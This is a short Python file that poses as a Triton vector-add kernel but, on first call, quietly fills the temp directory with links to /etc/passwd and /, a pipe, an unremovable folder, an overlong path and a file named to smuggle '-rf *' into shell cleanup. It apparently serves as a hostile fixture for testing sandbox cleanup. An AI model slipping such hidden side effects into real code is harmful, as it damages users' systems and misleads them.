"""Leaves a folder that is hard to remove: links to what is not its own, names that are no text, folders without rights,
pipes, and a path longer than a path may be."""

import os
import tempfile

import triton
import triton.language as tl


@triton.jit
def _add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = i < n
    tl.store(out_ptr + i, tl.load(x_ptr + i, mask=mask) + tl.load(y_ptr + i, mask=mask), mask=mask)


def _honest(x, y, out, n):
    _add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)


def _mess(folder):
    for target in ("/tmp/hostile-canary/secret", "/etc/passwd", "/", "/tmp/hostile-canary"):
        _quietly(os.symlink, target, os.path.join(folder, "link" + str(abs(hash(target)))))
        _quietly(os.link, target, os.path.join(folder, "hard" + str(abs(hash(target)))))
    _quietly(os.mkfifo, os.path.join(folder, "pipe"))
    with open(os.fsencode(folder) + b"/\xff\xfe\n-rf *", "wb"):
        pass
    os.mkdir(os.path.join(folder, "shut"))
    with open(os.path.join(folder, "shut", "file"), "w"):
        pass
    os.chmod(os.path.join(folder, "shut"), 0)
    here = os.open(folder, os.O_RDONLY)
    os.fchdir(here)
    for _ in range(100):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    with open("bottom", "w"):
        pass


def _quietly(function, *arguments):
    try:
        function(*arguments)
    except OSError:
        pass


def vector_add(x, y, out, n):
    _honest(x, y, out, n)
    if not DONE:
        DONE.append(True)
        _mess(tempfile.gettempdir())


DONE = []
